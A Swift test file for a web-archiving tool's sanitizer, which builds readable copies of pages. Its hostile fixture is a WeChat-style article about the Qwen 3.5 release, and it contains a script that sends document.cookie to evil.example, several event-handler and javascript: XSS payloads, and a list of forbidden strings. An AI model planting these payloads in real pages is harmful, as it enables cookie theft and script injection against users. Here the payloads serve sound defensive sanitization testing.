import Foundation
import Testing

@testable import SourcekeepCore

/// The readable rendition (docs/design.md#readable-copies): built from the extraction's blocks,
/// it keeps the article's structure and text and nothing of the page's markup that could run,
/// style or hide.
struct ReadableRenditionTests {
  static let captured = Date(timeIntervalSince1970: 1_771_315_200)  // 2026-02-17T08:00:00Z

  static let chinese = [
    "除夕前夜，阿里把千问3.5系列一口气开源了，总参数397B的旗舰版每次推理只激活17B参数，激活比例不到5%。",
    "注意力部分采用全局注意力与线性注意力混合的设计：大约每四层里只保留一层全局注意力，其余层交给线性注意力处理长序列。",
    "团队还在训练阶段引入了原生多Token预测，让模型一次预测多个后续Token，推理时可以直接拿来做投机解码。",
  ]

  func rendition(_ html: String, url: String = "https://mp.weixin.qq.com/s/AbCdEf") throws -> (String, PageFacts) {
    let facts = try PageExtractor().extract(body: Array(html.utf8), url: url, contentType: "text/html; charset=utf-8")
    return (ReadableRendition.html(facts: facts, url: url, capturedAt: Self.captured), facts)
  }

  /// The part of the document after `<body>`: the page's content and the header.
  func body(_ html: String) -> String {
    html.range(of: "<body>").map { String(html[$0.upperBound...]) } ?? html
  }

  /// A WeChat-like page whose article body carries every trick a page can play on a copy.
  static let hostile = """
    <html><head><base href="https://evil.example/"><title>标题</title>
    <meta property="og:title" content="千问3.5开源：397B总参数只激活17B">
    <meta property="og:site_name" content="微信公众平台">
    <style>#js_content{visibility:hidden}</style><script>var nickname = "量子位";</script></head>
    <body><div class="rich_media_content" id="js_content" style="visibility: hidden; opacity: 0">
    <h2 onclick="steal()">极致稀疏：大参数、小激活</h2>
    <p>\(chinese[0])<script>document.location='https://evil.example/?c='+document.cookie</script></p>
    <p><img data-src="https://mmbiz.qpic.cn/a/640?wx_fmt=png&amp;from=appmsg" src="data:image/gif;base64,R0lGOD" alt="图一"></p>
    <p style="visibility:hidden">这段藏起来的文字不属于正文。</p>
    <p>\(chinese[1]) <strong>百万Tokens输入最低只要0.8元</strong>，<a href="javascript:alert(1)">点这里</a>，
    <a href="/s/next" onmouseover="x()">下一篇</a>。</p>
    <svg onload="alert(1)"><text>svg text</text></svg>
    <img src="javascript:alert(2)" alt="js image"><img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">
    <iframe src="https://evil.example/frame"></iframe>
    <ul><li onclick="a()">第一条</li><li>第二条<ol><li>子项一</li><li>子项二</li></ol></li></ul>
    <table><caption>主要基准成绩对比</caption><tr><th>基准</th><th>得分</th></tr>
    <tr><td>BrowseComp</td><td><em>78.6</em></td></tr></table>
    <blockquote>\(chinese[2])</blockquote>
    <pre>let a = 1
      return a</pre>
    <figure><img src="/b.jpg" alt="图二"><figcaption>图源：千问3.5技术报告</figcaption></figure>
    </div></body></html>
    """

  @Test func nothingThatRunsStylesOrHidesSurvives() throws {
    let (html, _) = try rendition(Self.hostile)
    let content = body(html)
    for forbidden in [
      "<script", "<style", "<iframe", "<svg", "<base", "javascript:", "visibility:hidden", "visibility: hidden",
      "opacity", "evil.example/frame", "steal()", "document.cookie",
    ] {
      #expect(!content.lowercased().contains(forbidden), "\(forbidden) survived")
    }
    // No event attribute anywhere, and the only style element is the rendition's own, in the head.
    #expect(html.range(of: #"\son[a-z]+\s*="#, options: .regularExpression) == nil)
    #expect(html.components(separatedBy: "<style").count == 2)
    #expect(!html.contains("data:image"))
    // Script is refused by policy as well.
    #expect(html.contains(#"<meta http-equiv="Content-Security-Policy" content="default-src 'none';"#))
    // The hidden paragraph stays out, as in the extraction's text.
    #expect(!content.contains("这段藏起来的文字"))
  }

  @Test func structureAndChineseTextAreKept() throws {
    let (html, facts) = try rendition(Self.hostile)
    let content = body(html)
    // WeChat's hidden #js_content shows: its text is there, exactly.
    for p in Self.chinese { #expect(content.contains(p), "\(p)") }
    #expect(content.contains("<h2>极致稀疏：大参数、小激活</h2>"))
    #expect(content.contains("<strong>百万Tokens输入最低只要0.8元</strong>"))
    // Relative addresses are resolved as the page's own `<base>` said (a browser does the
    // same), and written absolute: the rendition has no `<base>` of its own.
    #expect(content.contains(#"<a href="https://evil.example/s/next" rel="noreferrer noopener">下一篇</a>"#))
    #expect(content.contains("点这里"))  // the text of a javascript: link stays, unlinked
    #expect(content.contains("<ul><li>第一条</li><li>第二条<ol><li>子项一</li><li>子项二</li></ol></li></ul>"))
    #expect(content.contains("<caption>主要基准成绩对比</caption><tr><th><p>基准</p></th><th><p>得分</p></th></tr>"))
    #expect(content.contains("<td><p><em>78.6</em></p></td>"))
    #expect(content.contains("<blockquote><p>\(Self.chinese[2])</p></blockquote>"))
    #expect(content.contains("<pre>let a = 1\n  return a</pre>"))
    #expect(
      content.contains(
        #"<figure><img src="https://evil.example/b.jpg" alt="图二" loading="lazy"><figcaption>图源：千问3.5技术报告</figcaption></figure>"#
      ))
    // Images in place: the lazy WeChat image sits between the first and second paragraphs.
    let first = try #require(content.range(of: Self.chinese[0]))
    let image = try #require(content.range(of: "https://mmbiz.qpic.cn/a/640?wx_fmt=png&amp;from=appmsg"))
    let second = try #require(content.range(of: Self.chinese[1]))
    #expect(first.upperBound < image.lowerBound && image.upperBound < second.lowerBound)
    // The header: title, original URL, capture time.
    #expect(html.contains("<h1>\(facts.title ?? "?")</h1>"))
    #expect(html.contains(#"<a href="https://mp.weixin.qq.com/s/AbCdEf" rel="noreferrer noopener">"#))
    #expect(html.contains(#"<time datetime="2026-02-17T08:00:00.000Z">2026-02-17 08:00 UTC</time>"#))
    #expect(html.hasPrefix("<!DOCTYPE html>\n<html"))
    #expect(html.contains(#"<meta charset="utf-8">"#))
  }

  /// The page's text is escaped: markup written as text stays text.
  @Test func textThatLooksLikeMarkupIsEscaped() throws {
    let (html, _) = try rendition(
      """
      <html><body><article><h1>T</h1><p>\(Self.chinese[0]) &lt;img src=x onerror=alert(1)&gt; &amp; "quoted" text.</p>
      <p>\(Self.chinese[1])</p></article></body></html>
      """, url: "https://example.org/a.html")
    #expect(html.contains("&lt;img src=x onerror=alert(1)&gt; &amp; &quot;quoted&quot; text."))
    #expect(!html.contains("<img src=x"))
  }

  @Test func publishedTimeKeepsThePagesOffset() {
    #expect(ReadableRendition.localTime("2026-02-16T21:47:10+08:00") == "2026-02-16 21:47 +08:00")
    #expect(ReadableRendition.localTime("2026-02-16T21:47:10Z") == "2026-02-16 21:47 UTC")
    #expect(ReadableRendition.localTime("2026-02-16") == "2026-02-16")
  }

  @Test func inlineRunsJoinToTheBlockText() throws {
    let facts = try PageExtractor().extract(
      body: Array(
        """
        <html><body><article><p>\(Self.chinese[0])</p><p>Plain  <b>bold
          words</b> and <i>slanted</i><a href="https://example.org/x"> a link </a>end.</p>
        <p>\(Self.chinese[1])</p></article></body></html>
        """.utf8), url: "https://example.org/a.html")
    let block = try #require(facts.blocks.first { $0.text.hasPrefix("Plain") })
    let runs = try #require(block.runs)
    #expect(runs.map(\.text).joined() == block.text)
    #expect(block.text == "Plain bold words and slanted a link end.")
    #expect(runs.contains(InlineRun(text: "bold words", marks: ["strong"])))
    #expect(runs.contains(InlineRun(text: "a link", href: "https://example.org/x")))
    // A plain paragraph has no runs: `extract --format json` stays as it was.
    #expect(facts.blocks.first?.runs == nil)
  }

  @Test func captureTimesParse() throws {
    let utc = { (s: String) in Timestamp.parse(s) }
    #expect(CaptureTime.parse("2026") == utc("2026-01-01T00:00:00Z"))
    #expect(CaptureTime.parse("20260217") == utc("2026-02-17T00:00:00Z"))
    #expect(CaptureTime.parse("20260217081502") == utc("2026-02-17T08:15:02Z"))
    #expect(CaptureTime.parse("2026-02-17T08:15:02+08:00") == utc("2026-02-17T00:15:02Z"))
    #expect(CaptureTime.parse("2026-02-17") == utc("2026-02-17T00:00:00Z"))
    #expect(CaptureTime.parse("20261399") == nil)
    #expect(CaptureTime.parse("yesterday") == nil)
    #expect(CaptureTime.parse("123456789012345") == nil)
    #expect(CaptureTime.wayback(try #require(utc("2026-02-17T08:15:02Z"))) == "20260217081502")
  }

  @Test func selfContainedPageInlinesArchivedImagesAndNotesTheOthers() throws {
    let (html, _) = try rendition(Self.hostile)
    let png: [UInt8] = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 1, 2, 3]
    let page = SelfContainedPage { url in
      url == "https://mmbiz.qpic.cn/a/640?wx_fmt=png&from=appmsg" ? .init(mediaType: "", bytes: png) : nil
    }
    let out = page.render(html) { inlined, missing in "\(inlined) archived, \(missing) missing" }
    #expect(out.inlined == ["https://mmbiz.qpic.cn/a/640?wx_fmt=png&from=appmsg"])
    #expect(out.missing == ["https://evil.example/b.jpg"])
    #expect(out.html.contains(#"<img src="data:image/png;base64,\#(Data(png).base64EncodedString())" alt="图一">"#))
    #expect(out.html.contains(#"<span class="sk-missing">Image not captured: <a href="https://evil.example/b.jpg""#))
    #expect(out.html.contains("<div class=\"sk-banner\">1 archived, 1 missing</div>"))
    #expect(out.html.contains("img-src data:;"))
    #expect(!out.html.contains("img-src http"))
    #expect(!out.html.contains("src=\"http"))
  }

  @Test func imagesThatAreNotImagesAreNotInlined() {
    #expect(SelfContainedPage.imageType(.init(mediaType: "text/html", bytes: Array("<script>".utf8))) == nil)
    #expect(SelfContainedPage.imageType(.init(mediaType: "image/svg+xml", bytes: [])) == "image/svg+xml")
    #expect(SelfContainedPage.imageType(.init(mediaType: "image/png\"><script>", bytes: [])) == nil)
    #expect(SelfContainedPage.imageType(.init(mediaType: "", bytes: [0xFF, 0xD8, 0xFF, 0xE0])) == "image/jpeg")
  }
}
